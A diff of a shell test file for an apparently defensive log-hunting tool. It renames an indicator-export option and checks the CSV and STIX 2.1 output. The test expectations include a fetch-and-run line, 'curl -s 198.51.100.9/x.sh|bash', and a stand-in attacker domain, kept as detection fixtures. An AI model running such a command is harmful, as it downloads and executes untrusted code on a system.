@@ -180,15 +180,15 @@ X
     echo "$output" | jq_any '.kensa.line == 7 and .kensa.verdict == "attack"'
 }
 
-@test "summary and --iocs as CSV and STIX 2.1" {
-    run "$KENSA" logs --threads 1 --iocs "$L/iocs.csv" "$L/access.log" "$L/b64.txt"
+@test "summary and --export-iocs as CSV and STIX 2.1" {
+    run "$KENSA" logs --threads 1 --export-iocs "$L/iocs.csv" "$L/access.log" "$L/b64.txt"
     [ "$status" -eq 1 ]
     [[ "$output" == *"Log hunt summary"* && "$output" == *"callback hosts"* ]]
     [[ "$output" == *"203.0.113.7"* && "$output" == *"curl -s 198.51.100.9/x.sh|bash"* ]]
     grep -q '^"host","x.evil.example"' "$L/iocs.csv"
     grep -q '^"ip","203.0.113.7","attack source"' "$L/iocs.csv"
     grep -q '^"command",' "$L/iocs.csv"
-    run "$KENSA" logs --quiet --iocs "$L/iocs.json" "$L/access.log"
+    run "$KENSA" logs --quiet --export-iocs "$L/iocs.json" "$L/access.log"
     jq -e '.type == "bundle" and (.objects | length >= 2)
         and any(.objects[]; .pattern == "[domain-name:value = '"'"'x.evil.example'"'"']")
         and all(.objects[]; .spec_version == "2.1" and (.id | startswith("indicator--")))' "$L/iocs.json"
